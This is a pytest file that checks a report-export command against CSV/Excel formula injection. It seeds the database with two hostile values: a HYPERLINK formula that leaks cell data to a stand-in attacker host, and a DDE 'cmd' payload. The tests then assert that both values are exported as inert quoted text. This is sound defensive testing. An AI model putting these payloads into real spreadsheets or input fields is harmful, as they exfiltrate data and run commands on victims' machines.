"""`opsbot export reports` with names an attacker (or a careless PLC engineer) chose: read back as Excel would,
no cell may be a live formula, numbers stay numbers and times are real date cells."""
from __future__ import annotations

import asyncio
import csv
import io
from datetime import datetime
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import update

from bot.models import Operation, User
from opsbot.cli import main

from .test_cli import config, reports_for_export

pytestmark = pytest.mark.db
NAME = '=HYPERLINK("http://evil.example/?d="&A1,"点我")'
OPERATION = "@SUM(1+1)*cmd|' /C calc'!A0"


async def hostile_reports(session_factory) -> None:
    await reports_for_export(session_factory)
    async with session_factory.begin() as session:
        await session.execute(update(User).where(User.wecom_userid == "op1").values(name=NAME))
        await session.execute(update(Operation).values(name=OPERATION))


async def export(tmp_path: Path, db_url: str, fmt: str) -> Path:
    out = tmp_path / f"reports.{fmt}"
    assert await asyncio.to_thread(main, ["--config", config(tmp_path, db_url), "export", "reports", "--from",
                                          "2026-11-01", "--to", "2026-11-30", "--out", str(out)]) == 0
    return out


async def test_csv_export_quotes_formula_text(tmp_path: Path, db_url: str, session_factory) -> None:
    await hostile_reports(session_factory)
    rows = list(csv.reader(io.StringIO((await export(tmp_path, db_url, "csv")).read_text(encoding="utf-8-sig"))))
    body = [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]
    assert {r["报工人"] for r in body} == {"'" + NAME} and {r["工序"] for r in body} == {"'" + OPERATION}
    assert not [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@")]


async def test_xlsx_export_has_no_formula_cells(tmp_path: Path, db_url: str, session_factory) -> None:
    await hostile_reports(session_factory)
    sheet = load_workbook(await export(tmp_path, db_url, "xlsx")).active
    assert not [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    header = [c.value for c in sheet[1]]
    first = dict(zip(header, sheet[2], strict=True))
    assert first["报工人"].value == "'" + NAME and first["工序"].value == "'" + OPERATION
    assert (first["良品"].value, first["良品"].data_type) == (10, "n")
    assert first["报工时间"].value == datetime(2026, 11, 1, 8, 30) and first["报工时间"].is_date
    assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref == f"A1:R{sheet.max_row}"
